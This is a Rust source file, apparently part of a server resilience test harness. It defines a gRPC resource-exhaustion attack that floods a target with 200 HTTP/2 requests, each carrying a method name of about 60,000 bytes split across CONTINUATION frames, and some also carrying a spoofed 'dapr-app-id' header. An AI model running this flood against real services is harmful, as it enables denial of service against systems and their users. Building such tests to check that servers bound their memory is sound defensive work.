//! gRPC: names that clients make up, as long as a request can carry. What is kept of them is kept for good.

use futures::FutureExt;
use futures::future::BoxFuture;

use super::Run::Do;
use super::Verdict::Bounded;
use super::{Attack, FLOOD, PATIENCE, attack};
use crate::h2::{END_HEADERS, END_STREAM, field, fields_of, frame, hello, kind};
use crate::listeners::Protocol::Grpc;
use crate::listeners::{Listener, Request};
use crate::peer::{Heard, Target};

/// Bytes of each: what is around it fits in the largest list of fields too.
const LENGTH: usize = 60_000;
const NAMES: u32 = 200;
/// The number of the method in the static table.
const POST: u8 = 0x83;

pub(super) const ATTACKS: &[Attack] = &[attack(
    "long methods, each another one",
    Grpc,
    Do(send),
    Bounded,
    FLOOD,
)];

fn send(target: Target) -> BoxFuture<'static, Heard> {
    async move {
        let Ok(mut peer) = target.connect().await else {
            return Heard::default();
        };
        peer.say(&hello(&[])).await;
        let listener = target.listener;
        peer.flood((0..NAMES).map(|number| request(listener, number)), PATIENCE)
            .await
    }
    .boxed()
}

/// A call of a method that nobody else has called: one of the listener's service, or one of an app behind it.
fn request(listener: &Listener, number: u32) -> Vec<u8> {
    let name = format!("{number:04}{}", "a".repeat(LENGTH));
    let fields = match listener.honest {
        Request::Call(known) if number.is_multiple_of(2) => {
            fields_of(listener, POST, &format!("{known}{name}"))
        }
        _ => {
            let mut fields = fields_of(listener, POST, &format!("/orders.Orders/{name}"));
            field(&mut fields, "dapr-app-id", b"hostile");
            fields
        }
    };
    let pieces: Vec<&[u8]> = fields.chunks(16_000).collect();
    let last = pieces.len() - 1;
    let frames = pieces.iter().enumerate().map(|(at, piece)| {
        let (kind, ends_stream) = match at {
            0 => (kind::HEADERS, END_STREAM),
            _ => (kind::CONTINUATION, 0),
        };
        let ends_headers = if at == last { END_HEADERS } else { 0 };
        frame(kind, ends_stream | ends_headers, 1 + 2 * number, piece)
    });
    frames.collect::<Vec<_>>().concat()
}
